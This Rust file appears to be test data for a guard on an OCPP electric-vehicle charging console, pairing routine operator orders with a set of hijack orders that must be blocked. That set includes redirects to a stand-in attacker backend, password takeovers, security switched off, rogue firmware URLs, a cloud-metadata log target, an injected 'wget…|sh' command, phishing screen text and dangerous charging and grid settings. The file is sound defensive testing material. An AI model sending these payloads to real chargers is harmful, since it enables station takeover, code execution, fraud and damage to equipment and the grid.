//! What the operator console does in the demo: first its work, then what a stranger makes of it.
//!
//! Every frame here is valid OCPP. Most are spelled so that a rule on message names, or on one
//! spelling of a key, would let them pass.

use serde_json::{Value, json};

/// One order of the console.
pub(super) struct Order {
    /// The station it goes to; an id of the demo's fleet.
    pub(super) station: &'static str,
    /// Action as spelled on the wire.
    pub(super) action: &'static str,
    /// Request.
    pub(super) payload: Value,
    /// What somebody at the console would say it is for.
    pub(super) pretext: &'static str,
}

fn order(station: &'static str, action: &'static str, pretext: &'static str, payload: Value) -> Order {
    Order { station, action, payload, pretext }
}

/// An ordinary morning: all of this goes through.
pub(super) fn work() -> Vec<Order> {
    vec![
        order(
            "market-01",
            "TriggerMessage",
            "a fresh meter reading, please",
            json!({"requestedMessage": "MeterValues", "connectorId": 1}),
        ),
        order(
            "motorway-01",
            "GetVariables",
            "how often does it report?",
            json!({"getVariableData": [{"component": {"name": "OCPPCommCtrlr"}, "variable": {"name": "HeartbeatInterval"}}]}),
        ),
        order(
            "harbour-02",
            "SetChargingProfile",
            "the site shares its connection",
            json!({"connectorId": 1, "csChargingProfiles": {
                "chargingProfileId": 7, "stackLevel": 0, "chargingProfilePurpose": "TxDefaultProfile",
                "chargingProfileKind": "Relative",
                "chargingSchedule": {"chargingRateUnit": "W", "chargingSchedulePeriod": [{"startPeriod": 0, "limit": 7400.0}]}}}),
        ),
        order(
            "market-03",
            "GetLog",
            "support asked for the log",
            json!({"logType": "DiagnosticsLog", "requestId": 12, "log": {"remoteLocation": "https://logs.example.com/upload/12"}}),
        ),
        order(
            "market-02",
            "ChangeConfiguration",
            "meter values once a minute",
            json!({"key": "MeterValueSampleInterval", "value": "60"}),
        ),
    ]
}

/// Somebody else has the console now. None of this may reach a station.
pub(super) fn taken_over() -> Vec<Order> {
    vec![
        order(
            "market-01",
            "ChangeConfiguration",
            "a maintenance key, nothing special",
            json!({"key": "CentralSystemURL", "value": "wss://ocpp.evil.example/"}),
        ),
        order(
            "market-02",
            "ChangeConfiguration",
            "the same, as another vendor spells it",
            json!({"key": "backend-server_Address", "value": "wss://ocpp.evil.example/"}),
        ),
        order(
            "motorway-01",
            "SetNetworkProfile",
            "the same, in 2.0.1",
            json!({"configurationSlot": 2, "connectionData": {
                "ocppVersion": "OCPP20", "ocppTransport": "JSON", "ocppCsmsUrl": "wss://ocpp.evil.example/",
                "messageTimeout": 30, "securityProfile": 1, "ocppInterface": "Wired0"}}),
        ),
        order(
            "harbour-04",
            "SetVariables",
            "the same, behind a harmless setting",
            json!({"setVariableData": [
                {"component": {"name": "OCPPCommCtrlr"}, "variable": {"name": "HeartbeatInterval"}, "attributeValue": "300"},
                {"component": {"name": "OCPPCommCtrlr"}, "variable": {"name": "NetworkConfigurationPriority"}, "attributeValue": "2,1"}]}),
        ),
        order(
            "motorway-03",
            "SetVariables",
            "the same, in 2.1",
            json!({"setVariableData": [
                {"component": {"name": "NetworkConfiguration", "instance": "1"}, "variable": {"name": "OcppCsmsUrl"},
                 "attributeValue": "wss://ocpp.evil.example/"}]}),
        ),
        order(
            "harbour-01",
            "ChangeConfiguration",
            "rotating the password",
            json!({"key": "AuthorizationKey", "value": "6f776e65642d62792d6d6521"}),
        ),
        order(
            "motorway-02",
            "SetVariables",
            "rotating the password, in 2.0.1",
            json!({"setVariableData": [
                {"component": {"name": "SecurityCtrlr"}, "variable": {"name": "BasicAuthPassword"}, "attributeValue": "owned-by-me-owned"}]}),
        ),
        order(
            "harbour-03",
            "ChangeConfiguration",
            "passwords make trouble, switch them off",
            json!({"key": "SecurityProfile", "value": "0"}),
        ),
        order(
            "harbour-02",
            "UpdateFirmware",
            "an urgent fix",
            json!({"location": "http://203.0.113.9/fw.bin", "retrieveDate": "2026-01-01T03:00:00Z"}),
        ),
        order(
            "market-03",
            "UpdateFirmware",
            "an urgent fix, over https",
            json!({"requestId": 3, "firmware": {"location": "https://firmware.example.com.evil.example/fw.bin",
                "retrieveDateTime": "2026-01-01T03:00:00Z"}}),
        ),
        order(
            "motorway-04",
            "GetLog",
            "support asked for the log again",
            json!({"logType": "SecurityLog", "requestId": 13, "log": {"remoteLocation": "http://169.254.169.254/latest/meta-data/"}}),
        ),
        order(
            "harbour-03",
            "GetDiagnostics",
            "the right host, and a little more",
            json!({"location": "ftps://logs.example.com/$(wget${IFS}evil.example/x|sh)"}),
        ),
        order(
            "market-04",
            "SetVariables",
            "drivers complain, let them charge",
            json!({"setVariableData": [
                {"component": {"name": "AuthCtrlr"}, "variable": {"name": "OfflineTxForUnknownIdEnabled"}, "attributeValue": "true"}]}),
        ),
        order(
            "harbour-01",
            "ChangeConfiguration",
            "less traffic",
            json!({"key": "MeterValueSampleInterval", "value": "0"}),
        ),
        order(
            "motorway-01",
            "SetVariables",
            "fewer alarms",
            json!({"setVariableData": [
                {"component": {"name": "MonitoringCtrlr"}, "variable": {"name": "Enabled"}, "attributeValue": "false"}]}),
        ),
        order(
            "market-01",
            "DataTransfer",
            "a vendor's service command",
            json!({"vendorId": "com.evil.example", "messageId": "shell", "data": "id"}),
        ),
        order(
            "motorway-02",
            "SetDisplayMessage",
            "a friendly notice",
            json!({"message": {"id": 1, "priority": "AlwaysFront",
                "message": {"format": "UTF8", "content": "Pay at https://pay.evil.example to unlock"}}}),
        ),
        order(
            "market-02",
            "SetChargingProfile",
            "more power for everyone",
            json!({"connectorId": 0, "csChargingProfiles": {
                "chargingProfileId": 9, "stackLevel": 9, "chargingProfilePurpose": "ChargePointMaxProfile",
                "chargingProfileKind": "Absolute",
                "chargingSchedule": {"chargingRateUnit": "W", "startSchedule": "2026-01-01T18:00:00Z",
                    "chargingSchedulePeriod": [{"startPeriod": 0, "limit": 90000000.0}, {"startPeriod": 1, "limit": -1.0}]}}}),
        ),
        order(
            "motorway-03",
            "SetChargingProfile",
            "give some energy back",
            json!({"evseId": 1, "chargingProfile": {
                "id": 4, "stackLevel": 1, "chargingProfilePurpose": "TxDefaultProfile", "chargingProfileKind": "Absolute",
                "chargingSchedule": [{"id": 1, "chargingRateUnit": "W", "startSchedule": "2026-01-01T18:00:00Z",
                    "chargingSchedulePeriod": [{"startPeriod": 0, "operationMode": "CentralSetpoint", "setpoint": -100000.0}]}]}}),
        ),
        order(
            "motorway-04",
            "SetDERControl",
            "a grid setting",
            json!({"isDefault": true, "controlId": "d1", "controlType": "EnterService",
                "enterService": {"priority": 0, "highVoltage": 130.0, "lowVoltage": 50.0, "highFreq": 70.0, "lowFreq": 40.0}}),
        ),
    ]
}
